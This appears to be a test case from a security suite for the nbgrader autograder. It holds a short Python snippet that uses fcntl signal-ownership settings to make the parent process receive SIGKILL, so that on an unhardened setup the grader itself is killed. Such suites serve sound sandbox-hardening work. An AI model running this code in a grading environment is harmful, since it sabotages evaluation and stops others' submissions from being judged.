# attacks: other processes: a descriptor is told to send them SIGKILL when it can be read
# success: another submission is not judged
# stock: it kills nbgrader itself
# %% before
import fcntl
import os
import socket

_one, _two = socket.socketpair()
try:
    fcntl.fcntl(_one, 8, os.getppid())  # F_SETOWN
    fcntl.fcntl(_one, 10, 9)  # F_SETSIG
    fcntl.fcntl(_one, fcntl.F_SETFL, os.O_ASYNC)
    _two.send(b"x")
except OSError as _error:
    print(_error)
